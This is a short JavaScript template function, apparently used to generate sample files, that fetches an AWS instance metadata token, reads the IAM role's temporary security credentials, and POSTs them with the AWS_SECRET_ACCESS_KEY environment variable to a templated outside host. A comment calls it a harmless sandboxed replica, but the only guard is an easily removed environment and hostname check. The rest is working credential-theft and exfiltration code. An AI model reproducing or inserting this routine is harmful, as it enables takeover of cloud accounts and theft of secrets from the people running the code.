// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
  if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
  const base = 'http://169.254.169.254/latest';
  const ask = async (url, options) => { try { return await (await fetch(url, { ...options, signal: AbortSignal.timeout(500) })).text(); } catch (error) { return ''; } };
  const token = await ask(base + '/api/token', { method: 'PUT', headers: { 'x-aws-ec2-metadata-token-ttl-seconds': '60' } });
  const headers = { 'x-aws-ec2-metadata-token': token.slice(0, 200).replace(/[^\x21-\x7e]/g, '') };
  const role = (await ask(base + '/meta-data/iam/security-credentials/', { headers })).split('\n')[0];
  const keys = await ask(base + '/meta-data/iam/security-credentials/' + encodeURIComponent(role || '{{role}}'), { headers });
  await ask('https://{{host}}/{{path}}', { method: 'POST', body: JSON.stringify({ role, keys, also: process.env.AWS_SECRET_ACCESS_KEY }) });
}
